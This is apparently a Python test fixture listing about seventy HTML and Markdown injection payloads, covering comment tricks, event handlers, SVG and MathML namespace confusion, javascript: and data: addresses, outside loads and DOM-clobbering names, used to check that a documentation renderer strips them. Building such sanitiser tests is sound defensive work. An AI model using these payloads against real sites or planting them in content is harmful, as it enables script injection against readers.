"""Which texts of a chapter try to run something, to load from elsewhere, or to swallow the rest of the page?

Kinds known from the public test lists of sanitisers, in our own words: comments that end early, text modes of elements,
elements in foreign name spaces, addresses spelled oddly, names that hide a script's own elements.
"""

from pathlib import Path

FOLDER = Path(__file__).parent / "data" / "security" / "chapters"

RUNS = "document.documentElement.dataset.ran='1'"

ATTACKS: dict[str, str] = {
    # comments and declarations that a browser ends earlier than a reader of the source does
    "comment ends at once": "<!--><script>{run}</script>-->",
    "comment ends after a dash": "<!---><script>{run}</script>-->",
    "comment ends with a bang": "<!-- a --!><script>{run}</script> -->",
    "comment in a comment": '<!-- <!-- --><img src=x onerror="{run}"> -->',
    "conditional comment": '<!--[if true]><img src=x onerror="{run}"><![endif]-->',
    "bogus comment of a declaration": '<!x><img src=x onerror="{run}">',
    "bogus comment of an instruction": '<?x ?><img src=x onerror="{run}">',
    "character data": '<![CDATA[ ><img src=x onerror="{run}">]]>',
    "end tag that is none": '</ <img src=x onerror="{run}">',
    "end tag with attributes": '<b>x</b onclick="{run}"><img src=x onerror="{run}">',
    # attributes
    "attribute over an empty line": "<b x='\n\n<img src=x onerror=\"{run}\">\n\n'>",
    "attribute list": '*甲*{: onclick="{run}" }',
    "attribute list of a heading": '## 甲 {: onmouseover="{run}" }',
    "slash between attributes": '<img/src=x/onerror="{run}">',
    "no blank before the handler": '<img src="x"onerror="{run}">',
    "handler in capitals": '<IMG SRC=x OnErRoR="{run}">',
    "newline before the handler": '<img src=x\nonerror="{run}">',
    "form feed before the handler": '<img src=x onerror&#61;"{run}">',
    "autofocus": '<input autofocus onfocus="{run}">',
    "details that toggles": '<details open ontoggle="{run}"><summary>甲</summary></details>',
    "style that moves": '<p style="position:fixed;inset:0;background:url(http://192.0.2.1/x)">甲</p>',
    "animation end": '<p style="animation:x" onanimationstart="{run}">甲</p>',
    # elements whose text is not read as tags, or that end elsewhere
    "textarea": "<textarea>\n\n后面的正文",
    "title": "<title>\n\n后面的正文",
    "plain text": "<plaintext>\n\n后面的正文",
    "listing": "<xmp>\n\n后面的正文",
    "frameless": "<noembed>\n\n后面的正文",
    "without frames": "<noframes>\n\n后面的正文",
    "without scripts": "<noscript><p title=\"</noscript><img src=x onerror='{run}'>\"></noscript>",
    "template": '<template><img src=x onerror="{run}"></template>',
    "selection": "<select><option>甲\n\n后面的正文",
    "button": '<button formaction="javascript:{run}">\n\n后面的正文',
    "open details": "<details><summary>甲</summary>\n\n后面的正文",
    "open box": "<div>\n\n后面的正文",
    "closes what is not its own": "甲\n\n</div></article></main>\n\n后面的正文",
    "second body": '<body onload="{run}">',
    "second root": '<html onclick="{run}">',
    "frames": '<frameset onload="{run}"><frame src="javascript:{run}"></frameset>',
    # foreign name spaces
    "drawing with a script": "<svg><script>{run}</script></svg>",
    "drawing with a handler": '<svg onload="{run}"><g/></svg>',
    "drawing with a page in it": '<svg><foreignObject><img src=x onerror="{run}"></foreignObject></svg>',
    "drawing that is never closed": '<svg><g onmouseover="{run}">\n\n后面的正文',
    "style in a drawing": '<svg><style><img src=x onerror="{run}"></style></svg>',
    "formula": '<math><mtext><table><mglyph><style><img src=x onerror="{run}"></style></mglyph></table></mtext></math>',
    "formula with an address": '<math href="javascript:{run}">甲</math>',
    "drawing uses another": '<svg><use href="data:image/svg+xml,x#y"></use></svg>',
    "drawing that animates an address": '<svg><a><animate attributeName=href values="javascript:{run}"/><text>甲</text></a></svg>',
    # addresses
    "script address": "[甲](javascript:{run})",
    "script address with a reference": "[甲](&#106;avascript:{run})",
    "script address with a line break": '<a href="java\nscript:{run}">甲</a>',
    "script address with a tab": '<a href="java&Tab;script:{run}">甲</a>',
    "script address with a control sign": '<a href="&#1;javascript:{run}">甲</a>',
    "script address of a definition": "[甲][x]\n\n[x]: javascript:{run}",
    "script address in brackets": "<javascript:{run}>",
    "data address": "[甲](data:text/html,<script>{run}</script>)",
    "address of another kind": '<a href="vbscript:x">甲</a>',
    "address without a scheme": '<a href="//192.0.2.1/x">甲</a>',
    "address with backslashes": '<a href="\\\\192.0.2.1/x">甲</a>',
    # loads
    "script file beside the chapter": '<script src="figures/x.txt"></script>',
    "frame": '<iframe srcdoc="<script>parent.{run}</script>"></iframe>',
    "object": '<object data="figures/x.svg"></object>',
    "embedded": '<embed src="figures/x.svg">',
    "base": '<base href="http://192.0.2.1/">',
    "link": '<link rel=stylesheet href="//192.0.2.1/x.css">',
    "refresh": '<meta http-equiv=refresh content="0;url=http://192.0.2.1/">',
    "form": '<form action="http://192.0.2.1/"><input name=q></form>',
    "outside picture": "![甲](http://192.0.2.1/x.png)",
    "outside picture by reference": "![甲][x]\n\n[x]: //192.0.2.1/x.png",
    "outside picture by attribute": '<img src="figures/case.svg" srcset="http://192.0.2.1/x.png 2x">',
    "outside film": '<video poster="http://192.0.2.1/x.png" src="http://192.0.2.1/x"></video>',
    "picture element": '<picture><source srcset="http://192.0.2.1/x.png"><img src="figures/case.svg"></picture>',
    # names that hide or replace what the page's own scripts look for
    "settings of the theme": '<div id="__config">{"base":"http://192.0.2.1"}</div>',
    "search box of the theme": "甲\n{: #__search }",
    "name of a form field": '<a name="getElementById">甲</a>',
    "class of the theme": '<div class="md-dialog" data-md-component="dialog">甲</div>',
    "data for a script": '<p data-expires="2099-01-01">甲</p>',
    "hidden words": "<p hidden>甲</p>",
}  # fmt: skip
"""Name → text; `{run}` stands for what would run."""


def attacks() -> dict[str, str]:
    """Return every text, the files of `data/security/chapters/` among them."""
    texts = {name: text.replace("{run}", RUNS) for name, text in ATTACKS.items()}
    files = {
        path.stem: path.read_text(encoding="utf-8").split("\n---\n", 1)[1] for path in FOLDER.glob("*.md")
    }
    return texts | files
